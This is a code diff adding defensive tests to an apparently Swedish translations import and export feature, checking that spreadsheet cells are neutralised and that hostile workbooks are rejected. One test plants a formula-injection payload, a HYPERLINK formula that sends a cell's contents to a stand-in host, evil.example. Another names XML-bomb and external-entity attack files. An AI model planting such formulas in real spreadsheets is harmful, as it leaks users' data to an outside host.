@@ -185,6 +185,35 @@ def test_an_import_is_checked_again_when_confirmed(world, login_as, own):
     assert not response.context["plan"].ok
 
 
+def test_formula_like_texts_are_neutralised_in_the_xlsx_and_come_back_unchanged(
+    world, login_as, own
+):
+    """A question that begins with "=" is text in the workbook (an apostrophe before it, never
+    a formula), and importing the file back changes nothing: the reader takes the mark off."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"klicka")'
+    translations.texts_apply(
+        version=own,
+        by=world.kalmar_ngo,
+        changes=[("item.T-NET-01.text", "sv", formula), ("item.T-NET-01.text", "so", "-1 dhib")],
+    )
+    client = login_as(world.kalmar_ngo)
+    exported = client.get(url("translations_export", own, world)).content
+    sheet = load_workbook(io.BytesIO(exported))["texts"]
+    header = [cell.value for cell in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "item.T-NET-01.text")
+    cell = row[header.index("sv")]
+    assert (cell.value, cell.data_type) == ("'" + formula, "s")
+    assert row[header.index("so")].value == "'-1 dhib"
+
+    before = snapshot(own)
+    preview = upload(client, own, world, "oversattning.xlsx", exported)
+    assert preview.context["plan"].ok
+    assert preview.context["plan"].changes == []
+    confirm(client, own, world, preview)
+    assert snapshot(own) == before
+    assert before["item.T-NET-01.text"]["sv"] == formula
+
+
 def test_an_xlsx_can_be_imported_for_one_language_only(world, login_as, own):
     client = login_as(world.kalmar_ngo)
     workbook = translation_sheet(
@@ -390,3 +419,28 @@ def test_po_entries_with_unknown_keys_or_plurals_are_row_errors(world, login_as,
     assert "Rad 5" in body and "Rad 9" in body
     assert "Pluralformer används inte" in body
     assert 'name="confirm"' not in body
+
+
+@pytest.mark.parametrize(
+    "make", ["broken_sheet", "billion_laughs", "external_entity", "huge_dimension"]
+)
+def test_a_hostile_translations_workbook_gets_a_message_and_changes_nothing(
+    world, login_as, own, make
+):
+    """The translations import reads with the same safe reader as every import."""
+    from samverka.lib.tests import hostile_files
+
+    rows = [["key", "so"], ["item.T-NET-01.text", "Saaxiibo"]]
+    if make == "huge_dimension":
+        data = hostile_files.huge_dimension(*rows[:1], rows[1:])
+    else:
+        data = getattr(hostile_files, make)(rows)
+    client = login_as(world.kalmar_ngo)
+    before = snapshot(own)
+    response = upload(client, own, world, "oversattning.xlsx", data)
+    assert response.status_code == 200
+    if make == "huge_dimension":  # read as the small file it is
+        assert [c.new for c in response.context["plan"].changes] == ["Saaxiibo"]
+    else:
+        assert response.context["form"].errors
+    assert snapshot(own) == before
